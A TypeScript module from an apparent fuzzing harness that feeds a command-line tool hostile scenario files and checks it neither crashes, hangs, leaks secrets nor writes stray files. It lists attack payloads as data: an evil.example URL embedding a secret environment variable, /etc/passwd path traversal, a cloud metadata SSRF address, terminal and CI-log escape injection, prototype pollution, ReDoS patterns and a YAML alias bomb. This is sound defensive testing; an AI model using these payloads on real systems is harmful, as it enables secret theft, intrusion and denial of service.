import { readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pick, type AttackClass, type Attempt, type Draw } from '../attack.ts'
import { brokenBy, openInFolder, runCommand, secretVariable } from './command.ts'
import { beside, kinds, toYaml, written, type Json } from './file-kinds.ts'

const acting = 'a\u001B[31mb\u009B2Jc\u202Ed\n::error::pwned\n##[error]pwned ##vso[task.x]pwned'

/** Values that hurt a reader who trusts a file. */
const hurting: readonly ((draw: Draw) => Json)[] = [
  () => acting,
  () => `\${env:${secretVariable}}`,
  () => `http://evil.example/\${env:${secretVariable}}`,
  () => 'file:///etc/passwd',
  () => '../../../../etc/passwd',
  () => 'http://169.254.169.254/latest/meta-data',
  () => '(a+)+$',
  () => `${'**/'.repeat(300)}x`,
  () => ({ $match: '^(([a-z])+.)+[A-Z]([a-z])+$' }),
  () => ({ $match: '(' }),
  () => 'x'.repeat(300_000),
  () => nested(4_000),
  () => Array.from({ length: 20_000 }, (_, at) => at),
  () => ({ __proto__x: 1, constructor: { prototype: { polluted: true } } }),
  (draw) => pick([1e308, -1, 0.5, 2 ** 53, Number.MAX_SAFE_INTEGER, -0], draw),
  () => 'P999999999Y',
  () => 'PT0S',
  () => '+275760-09-13T00:00:00.000Z',
  () => '9999-12-31T23:59:59Z',
  () => null,
  () => [],
  () => ({}),
  () => true,
  () => '\uD800',
  () => '\u0000',
]

function nested(depth: number): Json {
  let value: Json = 1
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { a: value }
  return value
}

/** Puts values in the place of others, or names in the place of names. */
function withHurt(value: Json, draw: Draw, most: number): Json {
  if (most === 0 || draw(most) === 0) return pick(hurting, draw)(draw)
  if (Array.isArray(value)) {
    const list: readonly Json[] = value
    const at = draw(list.length + 1)
    return at === list.length
      ? [...list, pick(hurting, draw)(draw)]
      : list.map((one, index) => (index === at ? withHurt(one, draw, most - 1) : one))
  }
  if (value !== null && typeof value === 'object') {
    const members = Object.entries(value)
    const at = draw(members.length + 1)
    if (at === members.length) {
      const name = pick(['__proto__', 'constructor', acting, '', 'toString'], draw)
      return Object.fromEntries([...members, [name, pick(hurting, draw)(draw)]])
    }
    return Object.fromEntries(members.map(([name, one], index) => [name, index === at ? withHurt(one, draw, most - 1) : one]))
  }
  return pick(hurting, draw)(draw)
}

/** Texts that no serializer writes. */
const broken: readonly ((text: string, draw: Draw) => string)[] = [
  (text, draw) => text.slice(0, draw(text.length)),
  (text, draw) => `${text.slice(0, draw(text.length))}\u0000\u0007${text.slice(draw(text.length))}`,
  (text) =>
    `a: &a [x, x]\nb: &b [*a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c]\ne: [*d, *d, *d, *d, *d, *d]\n${text}`,
  (text) => `!!js/function 'function () {}'\n${text}`,
  () => '['.repeat(50_000),
  () => '{"a":'.repeat(50_000),
  () => '',
  (text) => `\uFEFF${text}`,
  (text) => `${text}\n---\n${text}`,
  () => manyNames(4000),
]

/** A scenario with many names, each of which it mistypes. */
function manyNames(count: number): string {
  const names = Array.from({ length: count }, (_, at) => `abcdefghijklmnopqrs${at}`)
  const saved = names.map((name) => `${name}: /body/totalCount`).join(', ')
  const asked = names.map((name, at) => `q${at}: '\${${name}x}'`).join(', ')
  return `format: 1\ntitle: Names\nsteps:\n  - { call: listSessions, save: { ${saved} } }\n  - { call: listSessions, query: { ${asked} } }\n`
}

export const files: AttackClass = {
  name: 'files',
  holds: 'a file of a stranger is read or refused in words: no bug, no hang, no secret, nothing that acts, no other file written',
  open() {
    // The first attempt shows whether texts act at all.
    const first = [{ name: 'scenario.yaml', text: toYaml({ format: 1, title: acting, steps: [{ call: 'listSessions' }] }) }]
    return openInFolder(
      (folder, draw) => {
        const [shown] = first.splice(0)
        return shown === undefined ? attemptIn(folder, draw) : attemptWith(folder, { ...shown, args: ['replay', shown.name] })
      },
      (folder) => {
        for (const [name, text] of Object.entries(beside)) writeFileSync(join(folder, name), text)
      },
    )
  },
}

function attemptIn(folder: string, draw: Draw): Attempt {
  const { name, sound, asText, uses } = pick(kinds, draw)
  const args = pick(uses, draw)(name)
  const value = Array.from({ length: draw(3) + 1 }).reduce<Json>((made) => withHurt(made, draw, 5), sound)
  const text = draw(5) === 0 ? pick(broken, draw)(asText(sound), draw) : asText(value)
  return attemptWith(folder, { name, text, args })
}

type Given = { readonly name: string; readonly text: string; readonly args: readonly string[] }

function attemptWith(folder: string, { name, text, args }: Given): Attempt {
  return {
    name: `${args.join(' ')} of ${JSON.stringify(text.slice(0, 300))}`,
    async make() {
      for (const file of written) rmSync(join(folder, file), { force: true })
      writeFileSync(join(folder, name), text)
      const ended = await runCommand(args, folder)
      const others = readdirSync(folder).filter((file) => ![name, ...written].includes(file) && !(file in beside))
      rmSync(join(folder, name))
      return brokenBy(ended) ?? (others.length > 0 ? `it wrote ${others.join(', ')}` : null)
    },
  }
}
